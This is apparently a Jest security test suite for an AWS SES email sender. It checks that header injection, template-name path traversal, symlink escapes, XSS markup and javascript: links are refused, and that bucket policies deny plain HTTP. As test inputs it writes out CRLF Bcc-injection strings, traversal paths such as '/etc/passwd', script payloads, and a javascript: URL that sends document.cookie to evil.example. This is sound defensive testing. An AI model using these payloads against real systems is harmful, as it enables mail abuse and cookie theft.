import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { mkdtempSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { SendEmailCommandInput } from '@aws-sdk/client-sesv2';
import { GetObjectCommand, ListObjectsV2Command, PutObjectCommand, type S3Client } from '@aws-sdk/client-s3';
import { GetCommand } from '@aws-sdk/lib-dynamodb';
import { startStandIns, type StandIns } from '../support/stand-ins.js';
import { loadTemplate } from '../support/cloudformation.js';
import { requestEvent, sqsRecord, starterTemplate, uploadStarterTemplates, uploadTemplate } from '../support/sender-events.js';
import { createEmailSenderHandler } from '../../functions/email-sender/handler.js';
import { hasControlChars } from '../../functions/core/email-address.js';
import { compileTemplate } from '../../functions/core/template-render.js';
import { createTemplateStore, templateKey } from '../../functions/lib/template-store.js';
import {
  readStarterTemplatesFromDirectory,
  readStarterTemplatesFromS3,
  seedTemplates,
  type StarterTemplate,
} from '../../functions/lib/template-seeding.js';
import { denyInsecureTransportPolicy } from '../../src/installer/bucket.js';
import type { Env } from '../../functions/lib/env.js';
import type { SenderTrackingRecord } from '../../functions/lib/tracking-store.js';

/**
 * Security checks of SPEC §3/§8, run on the real code:
 * - header injection at every place a mail header is built: To, From (request override,
 *   template metadata, stack default), Reply-To (request, template, rendered from data),
 *   Subject (request, template, rendered from data) and List-Unsubscribe (stack URL and
 *   mailto); and over everything SES received in this file, no control character in any
 *   header value;
 * - path traversal through template names: the request, the template store, the seeding
 *   library (S3 listings, folders with symbolic links, templates handed in directly);
 * - HTML escaping of template data in every starter template, as SES receives the mail;
 * - the bucket policies of the template and of the installer deny the same non-TLS access.
 *
 * Elsewhere: unsubscribe token forgery (forged, tampered, swapped, wrong-secret tokens →
 * 403, nothing suppressed) in tests/integration/unsubscribe.test.ts; the IAM wildcard and
 * least-privilege scan in tests/unit/cloudformation-iam.test.ts; each policy's exact shape
 * in tests/unit/cloudformation-stack.test.ts and tests/unit/installer/preflight.test.ts.
 */

let env: StandIns;
const sesInputs: SendEmailCommandInput[] = [];
const s3Keys: string[] = [];
const STARTERS = ['welcome', 'password-reset', 'order-confirmation', 'invoice', 'newsletter', 'contact-form-notification', 'email-verification', 'notification'];
const CRLF = '\r\nBcc: victim@target.example';

beforeAll(async () => {
  env = await startStandIns('security');
  env.ses.middlewareStack.add(
    (next, context) => async (args) => {
      // SendEmail only: the sender's pacing also asks SES for the account's rate (GetAccount).
      if (context.commandName === 'SendEmailCommand') sesInputs.push(args.input as SendEmailCommandInput);
      return next(args);
    },
    { step: 'initialize', name: 'captureSends' },
  );
  env.s3.middlewareStack.add(
    (next) => async (args) => {
      const key = (args.input as { Key?: string }).Key;
      if (key) s3Keys.push(key);
      return next(args);
    },
    { step: 'initialize', name: 'captureKeys' },
  );
  await uploadStarterTemplates(env.s3, env.bucket, STARTERS);
  const base = { requiredVariables: [], category: 'transactional', version: '1.0.0', description: 'hostile metadata' };
  const hostile: Record<string, Record<string, unknown>> = {
    'evil-sender-name': { subject: 'Hi', senderEmail: 'desk@brand.example', senderName: `Desk${CRLF}` },
    'evil-sender-email': { subject: 'Hi', senderEmail: `desk@brand.example${CRLF}` },
    'evil-subject': { subject: `Hi${CRLF}` },
    'evil-reply-to': { subject: 'Hi', replyTo: `help@brand.example${CRLF}` },
    'data-reply-to': { subject: 'Hi {{ name }}', replyTo: '{{ reply }}', requiredVariables: ['name', 'reply'] },
  };
  for (const [name, metadata] of Object.entries(hostile)) {
    await uploadTemplate(env.s3, env.bucket, name, { html: '<p>Hi {{ name }}</p>', text: 'Hi {{ name }}', metadata: { ...base, ...metadata } });
  }
});

afterAll(async () => {
  await env?.stop();
});

function senderEnv(overrides: Env = {}): Env {
  return {
    TRACKING_TABLE: env.tables.tracking,
    SUPPRESSION_TABLE: env.tables.suppression,
    COUNTERS_TABLE: env.tables.counters,
    TEMPLATE_BUCKET: env.bucket,
    CONFIGURATION_SET: 'security-tracking',
    DEFAULT_SENDER_EMAIL: 'noreply@app.example',
    DEFAULT_SENDER_NAME: 'App',
    UNSUBSCRIBE_URL: 'https://unsubscribe.app.example/u',
    UNSUBSCRIBE_SECRET: 'security-secret',
    UNSUBSCRIBE_MAILTO: 'unsubscribe@app.example',
    ...overrides,
  };
}

function handler(overrides: Env = {}) {
  return createEmailSenderHandler({ clients: { ddb: env.ddb, s3: env.s3, ses: env.ses }, env: senderEnv(overrides), log: () => undefined });
}

async function tracked(emailId: string): Promise<SenderTrackingRecord | undefined> {
  const out = await env.ddb.send(new GetCommand({ TableName: env.tables.tracking, Key: { emailId }, ConsistentRead: true }));
  return out.Item as SenderTrackingRecord | undefined;
}

let seq = 0;
const nextId = (prefix: string) => `${prefix}-${++seq}`;

/** Sends one request through the real handler; returns its record and what SES received for it. */
async function send(detail: Record<string, unknown>, overrides: Env = {}) {
  const emailId = nextId('sec');
  const before = sesInputs.length;
  const result = await handler(overrides)({ Records: [sqsRecord(requestEvent({ to: `${emailId}@customer.example`, ...detail, emailId }))] });
  expect(result.batchItemFailures).toEqual([]);
  return { record: await tracked(emailId), sent: sesInputs.slice(before) };
}

const welcome = { templateName: 'welcome', templateData: { userName: 'Ann', companyName: 'Acme' } };
const contact = { templateName: 'contact-form-notification', templateData: { formSenderName: 'Sam', formSenderEmail: 'sam@visitor.example', message: 'Hello' } };

describe('header injection', () => {
  it.each([
    ['To: CRLF', 'VAL005', { ...welcome, to: `ann@customer.example${CRLF}` }],
    ['To: a Unicode line separator', 'VAL005', { ...welcome, to: 'ann@customer.example\u2028Bcc: victim@target.example' }],
    ['To: NEL (C1 control)', 'VAL005', { ...welcome, to: 'ann@customer.example\u0085Bcc: victim@target.example' }],
    ['To: a second address', 'VAL003', { ...welcome, to: 'ann@customer.example, victim@target.example' }],
    ['To: a display name', 'VAL003', { ...welcome, to: 'Ann <ann@customer.example>' }],
    ['From (request name): CRLF', 'VAL005', { ...welcome, senderOverride: { email: 'sales@shop.example', name: `Sales${CRLF}` } }],
    ['From (request address): LF', 'VAL005', { ...welcome, senderOverride: { email: `sales@shop.example${CRLF}` } }],
    ['From (request address): a second address', 'VAL009', { ...welcome, senderOverride: { email: 'sales@shop.example, victim@target.example' } }],
    ['From (template name): CRLF in metadata', 'TMPL002', { templateName: 'evil-sender-name', templateData: { name: 'A' } }],
    ['From (template address): CRLF in metadata', 'TMPL002', { templateName: 'evil-sender-email', templateData: { name: 'A' } }],
    ['Reply-To (request): CRLF', 'VAL005', { ...welcome, replyTo: `help@shop.example${CRLF}` }],
    ['Reply-To (request): a second address', 'VAL009', { ...welcome, replyTo: 'help@shop.example, victim@target.example' }],
    ['Reply-To (template): CRLF in metadata', 'TMPL002', { templateName: 'evil-reply-to', templateData: { name: 'A' } }],
    ['Reply-To (rendered from data): CRLF', 'VAL005', { ...contact, templateData: { ...contact.templateData, formSenderEmail: `sam@visitor.example${CRLF}` } }],
    ['Reply-To (rendered from data): a second address', 'VAL009', { templateName: 'data-reply-to', templateData: { name: 'A', reply: 'a@visitor.example, victim@target.example' } }],
    ['Reply-To (rendered from data): a display name with a second address', 'VAL009', { templateName: 'data-reply-to', templateData: { name: 'A', reply: '"x" <victim@target.example>' } }],
    ['Subject (request): CRLF', 'VAL005', { ...welcome, subject: `Hello${CRLF}` }],
    ['Subject (request): a paragraph separator', 'VAL005', { ...welcome, subject: 'Hello\u2029Bcc: victim@target.example' }],
    ['Subject (template): CRLF in metadata', 'TMPL002', { templateName: 'evil-subject', templateData: { name: 'A' } }],
    ['Subject (rendered from data): CRLF', 'VAL005', { ...welcome, templateData: { userName: `Ann${CRLF}`, companyName: 'Acme' } }],
  ] as [string, string, Record<string, unknown>][])('%s → tracked failed %s, nothing sent', async (_where, code, detail) => {
    const { record, sent } = await send(detail);
    expect(record).toMatchObject({ status: 'failed', errorCode: code });
    expect(sent).toEqual([]);
  });

  it('quotes a display name that looks like another address, so From names exactly one mailbox', async () => {
    const { record, sent } = await send({ ...welcome, senderOverride: { email: 'sales@shop.example', name: 'Boss" <boss@bank.example>, "x' } });
    expect(record?.status).toBe('sent');
    expect(sent[0]!.FromEmailAddress).toBe('"Boss\\" <boss@bank.example>, \\"x" <sales@shop.example>');
  });

  it('encodes a non-ASCII or right-to-left display name as RFC 2047 words', async () => {
    const { sent } = await send({ ...welcome, senderOverride: { email: 'sales@shop.example', name: 'Zoë \u202Eknab\u202C Ünïcode' } });
    expect(sent[0]!.FromEmailAddress).toMatch(/^(=\?UTF-8\?B\?[A-Za-z0-9+/=]+\?= ?)+ <sales@shop\.example>$/);
  });

  it.each([
    ['DEFAULT_SENDER_NAME', { DEFAULT_SENDER_NAME: `App${CRLF}` }],
    ['DEFAULT_SENDER_EMAIL', { DEFAULT_SENDER_EMAIL: `noreply@app.example${CRLF}` }],
    ['UNSUBSCRIBE_MAILTO', { UNSUBSCRIBE_MAILTO: `unsubscribe@app.example${CRLF}` }],
  ])('a stack setting with a line break (%s) stops the function before any send', async (variable, overrides) => {
    const before = sesInputs.length;
    await expect(handler(overrides)({ Records: [sqsRecord(requestEvent({ ...welcome, to: 'x@customer.example', emailId: nextId('cfg') }))] })).rejects.toThrow(variable);
    expect(sesInputs.length).toBe(before);
  });

  it.each([
    ['a line break', `https://unsubscribe.app.example/u${CRLF}`],
    ['angle brackets that would close the link and open another', 'https://unsubscribe.app.example/u>, <https://evil.example/x'],
    ['a query with brackets and commas', 'https://unsubscribe.app.example/u?x=<a>,<b>'],
  ])('List-Unsubscribe stays one https link and one mailto when UNSUBSCRIBE_URL holds %s', async (_label, url) => {
    const { sent } = await send({ templateName: 'newsletter', templateData: { firstName: 'Alex' } }, { UNSUBSCRIBE_URL: url });
    const headers = sent[0]!.Content!.Simple!.Headers!;
    const value = headers.find((h) => h.Name === 'List-Unsubscribe')!.Value!;
    expect(value).toMatch(/^<https:\/\/unsubscribe\.app\.example\/[^\s<>]*> ?, <mailto:unsubscribe@app\.example\?subject=unsubscribe>$/);
    expect(headers.find((h) => h.Name === 'List-Unsubscribe-Post')!.Value).toBe('List-Unsubscribe=One-Click');
  });

  it('left no control character in any header value of any mail SES received in this file', () => {
    expect(sesInputs.length).toBeGreaterThan(3);
    for (const input of sesInputs) {
      const values = [
        input.FromEmailAddress ?? '',
        ...(input.ReplyToAddresses ?? []),
        ...(input.Destination?.ToAddresses ?? []),
        input.Content?.Simple?.Subject?.Data ?? '',
        ...(input.Content?.Simple?.Headers ?? []).flatMap((h) => [h.Name ?? '', h.Value ?? '']),
      ];
      for (const value of values) expect({ value, control: hasControlChars(value) }).toEqual({ value, control: false });
    }
  });
});

describe('path traversal through template names', () => {
  const SAFE_KEY = /^templates\/[A-Za-z0-9][A-Za-z0-9_-]{0,63}\/(template\.html|template\.txt|metadata\.json)$/;

  it.each(['../welcome', '../../artifacts/email-sender', 'welcome/../../x', '..', '.', '/etc/passwd', 'a\\..\\b', '%2e%2e%2fwelcome', 'welcome\u0000', 'welcome/', ' welcome'])(
    'a request for template %j is tracked failed VAL004 and reads nothing from S3',
    async (templateName) => {
      const before = s3Keys.length;
      const { record, sent } = await send({ templateName, templateData: { userName: 'A', companyName: 'B' } });
      expect(record).toMatchObject({ status: 'failed', errorCode: 'VAL004' });
      expect(sent).toEqual([]);
      expect(s3Keys.slice(before)).toEqual([]);
    },
  );

  it('the Email Sender only ever read template keys inside one template folder', () => {
    const reads = s3Keys.filter((key) => key.startsWith('templates/') || key.includes('..'));
    expect(reads.length).toBeGreaterThan(0);
    expect(reads.filter((key) => !SAFE_KEY.test(key))).toEqual([]);
  });

  it('the template store refuses an unsafe name without calling S3, whoever calls it', async () => {
    const before = s3Keys.length;
    const store = createTemplateStore({ s3: env.s3, bucket: env.bucket, ttlSeconds: 300, prepare: compileTemplate });
    for (const name of ['../welcome', 'a/b', '..', '']) {
      await expect(store.get(name)).rejects.toMatchObject({ code: 'VAL004' });
      expect(() => templateKey(name, 'metadata.json')).toThrow(/not a safe identifier/);
    }
    expect(s3Keys.length).toBe(before);
    expect((await store.get('welcome')).ok).toBe(true);
  });

  /** An S3 client serving a listing of hostile keys (S3 keys are plain strings: ".." is just text there). */
  function listingOf(keys: string[]): { s3: S3Client; puts: string[] } {
    const puts: string[] = [];
    const s3 = {
      send: async (command: unknown) => {
        if (command instanceof ListObjectsV2Command) return { Contents: keys.map((Key) => ({ Key })), IsTruncated: false };
        if (command instanceof GetObjectCommand) {
          const body = command.input.Key!.endsWith('metadata.json') ? '{"version":"1.0.0"}' : 'x';
          return { Body: { transformToByteArray: async () => Buffer.from(body), transformToString: async () => body } };
        }
        if (command instanceof PutObjectCommand) puts.push(command.input.Key!);
        return {};
      },
    } as unknown as S3Client;
    return { s3, puts };
  }

  it.each([
    ['a template folder named ".."', ['starter/../metadata.json', 'starter/../template.html']],
    ['an absolute file name', ['starter/ok/metadata.json', 'starter/ok//etc/passwd']],
  ])('the seeding library refuses starter templates in S3 with %s (TMPL002)', async (_label, keys) => {
    const { s3 } = listingOf(keys);
    await expect(readStarterTemplatesFromS3(s3, 'artifacts', 'starter')).rejects.toMatchObject({ code: 'TMPL002' });
  });

  it('the seeding library never reads a starter file whose path climbs out of its folder', async () => {
    const { s3 } = listingOf(['starter/ok/metadata.json', 'starter/ok/../../escape.html', 'starter/ok/./template.html', 'starter/ok/sub/../../x.txt', 'starter/ok/..\\..\\escape.html']);
    const templates = await readStarterTemplatesFromS3(s3, 'artifacts', 'starter');
    expect(templates.map((t) => [t.name, Object.keys(t.files)])).toEqual([['ok', ['metadata.json']]]);
  });

  it.each([
    ['a name with ".."', { name: '../templates-elsewhere', version: '1.0.0', files: { 'metadata.json': '{"version":"1.0.0"}' } }],
    ['a name with a slash', { name: 'a/b', version: '1.0.0', files: { 'metadata.json': '{"version":"1.0.0"}' } }],
    ['a file name with ".."', { name: 'ok', version: '1.0.0', files: { 'metadata.json': '{"version":"1.0.0"}', '../../artifacts/x.zip': 'x' } }],
  ] as [string, StarterTemplate][])('seeding refuses a template with %s before writing anything', async (_label, template) => {
    const { s3, puts } = listingOf([]);
    await expect(seedTemplates(s3, 'bucket', [template])).rejects.toMatchObject({ code: 'TMPL002' });
    expect(puts).toEqual([]);
  });

  it('seeding from a folder does not follow symbolic links out of it', async () => {
    const root = mkdtempSync(join(tmpdir(), 'sme-seed-'));
    const outside = mkdtempSync(join(tmpdir(), 'sme-outside-'));
    try {
      writeFileSync(join(outside, 'secret.txt'), 'secret');
      mkdirSync(join(root, 'ok'));
      writeFileSync(join(root, 'ok', 'metadata.json'), '{"version":"1.0.0"}');
      symlinkSync(join(outside, 'secret.txt'), join(root, 'ok', 'template.html'));
      symlinkSync(outside, join(root, 'ok', 'linked-folder'));
      symlinkSync(outside, join(root, 'linked-template'));
      const templates = await readStarterTemplatesFromDirectory(root);
      expect(templates.map((t) => t.name)).toEqual(['ok']);
      expect(Object.keys(templates[0]!.files)).toEqual(['metadata.json']);
    } finally {
      rmSync(root, { recursive: true, force: true });
      rmSync(outside, { recursive: true, force: true });
    }
  });
});

describe('HTML escaping of template data', () => {
  const PAYLOAD = '"><script>alert(1)</script><img src=x onerror=alert(2)>\'&';
  const ESCAPED = '&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;&#39;&amp;';

  function hostile(value: unknown, key = ''): unknown {
    if (typeof value === 'string') return key === 'formSenderEmail' ? value : PAYLOAD;
    if (Array.isArray(value)) return value.map((item) => hostile(item));
    if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, hostile(v, k)]));
    return value;
  }

  it.each(STARTERS)('%s: markup in every string of templateData reaches SES escaped in the HTML part', async (name) => {
    const { record, sent } = await send({ templateName: name, templateData: hostile(starterTemplate(name).sampleData) });
    expect(record?.status).toBe('sent');
    const html = sent[0]!.Content!.Simple!.Body!.Html!.Data!;
    // Every occurrence is the fully escaped payload: with those removed, nothing of it is left.
    expect(html).toContain(ESCAPED);
    expect(html.split(ESCAPED).join('')).not.toMatch(/alert\(|onerror|<script/i);
    // The text part is plain text: the data stays as written there.
    expect(sent[0]!.Content!.Simple!.Body!.Text!.Data!).toContain(PAYLOAD);
  });
});

describe('script URLs in links', () => {
  it.each([
    ['password-reset', 'resetLink'],
    ['welcome', 'ctaUrl'],
    ['notification', 'actionUrl'],
  ])('%s: a javascript: URL in %s is tracked failed TMPL006 and never reaches SES', async (name, field) => {
    const data = { ...(starterTemplate(name).sampleData as Record<string, unknown>), [field]: 'javascript:fetch("//evil.example/"+document.cookie)' };
    const { record, sent } = await send({ templateName: name, templateData: data });
    expect(record).toMatchObject({ status: 'failed', errorCode: 'TMPL006' });
    expect(sent).toHaveLength(0);
  });
});

describe('the template bucket refuses plain HTTP', () => {
  it('in the stack template and in the installer, with the same statement for the bucket and its objects', () => {
    const template = loadTemplate();
    const stack = Object.values(template.Resources).filter((r) => r.Type === 'AWS::S3::BucketPolicy') as { Properties: Record<string, any> }[];
    expect(stack).toHaveLength(1);
    const installer = JSON.parse(denyInsecureTransportPolicy('my-bucket')) as { Statement: Record<string, any>[] };
    const [fromStack] = stack[0]!.Properties.PolicyDocument.Statement as Record<string, any>[];
    const [fromInstaller] = installer.Statement;
    for (const statement of [fromStack!, fromInstaller!]) {
      expect(statement).toMatchObject({ Effect: 'Deny', Principal: '*', Action: 's3:*', Condition: { Bool: { 'aws:SecureTransport': 'false' } } });
    }
    const shape = (resources: unknown[]) => resources.map((r) => JSON.stringify(r).replace(/.*s3:::[^/"]*(\/\*)?.*/, 's3:::<bucket>$1'));
    expect(shape(fromInstaller!.Resource)).toEqual(shape(fromStack!.Resource));
    expect(shape(fromInstaller!.Resource)).toEqual(['s3:::<bucket>', 's3:::<bucket>/*']);
  });
});
